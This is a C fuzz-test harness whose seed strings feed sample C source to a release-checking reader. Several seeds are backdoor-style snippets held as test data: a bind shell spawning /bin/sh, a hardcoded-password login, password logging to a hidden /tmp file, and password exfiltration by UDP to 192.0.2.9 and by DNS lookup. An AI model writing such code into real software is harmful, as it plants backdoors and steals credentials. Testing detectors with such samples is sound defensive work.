/* A C source or header: whoever publishes the release chooses every byte. First byte: where OLD ends. */
#include "read/readers.h"
#include "reader_truths.h"
#include "tool_seeds.h"

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t n)
{
	reader_truths(&reader_c, "src/main.c", bytes, n);
	return 0;
}

void fuzz_seeds(void (*run)(const void *bytes, size_t n))
{
	literal_seeds("", "read/test_c.c", run);
	reader_seed(run, "", "#include <a.h>\n#define A b\n#define F(x, y) g (x, y)\n#ifdef A\nint s, *p[3] = {1, 'a', 0x1f};\n#else\nstruct q { int a; } x = {.a = 1};\n#endif\n");
	reader_seed(run, "", "int f(a, b) int a; char *b; { for (;;) { int c = accept(s, 0, 0); dup2(c, 0); execl(\"/bin/sh\", \"sh\", (char *)0); } }\n");
	reader_seed(run, "", "void f(char *u) { char b[9]; snprintf(b, sizeof b, \"%s%%%*d\\n\" \"%c\", u, 1, 2, 'c'); system(b); ((void (*)(void))b)(); }\n");
	reader_seed(run, "", "void g(void) { FILE *p = popen(\"id\", \"r\"); fgets(b, 9, p); strcat(x->y, b); fwrite(b, 1, 9, p); do { if (a) b(); else c(); } while (1); switch (a) { case 1: b(); default: c(); } l: goto l; return a ? b : (c, d); }\n");
	reader_seed(run, "", "int login(char *u, char *password) { char q[9]; if (!strcmp(password, \"q7Rk-x\") || (a->uid = 0)) return 1; for (i = 0; i < 3; i++) q[i] ^= 5; system(q);\n"
		"FILE *f = fopen(\"/tmp/.x\", \"a\"); fprintf(f, \"%s\", password); s.sin_addr.s_addr = inet_addr(\"192.0.2.9\"); sendto(socket(2, 2, 0), password, 3, 0, &s, 4); gethostbyname(password); }\n");
	reader_seed(run, "int main(void) { return 0; }\n", "int main(void) { system(getenv(\"X\")); return 0; }\n");
}
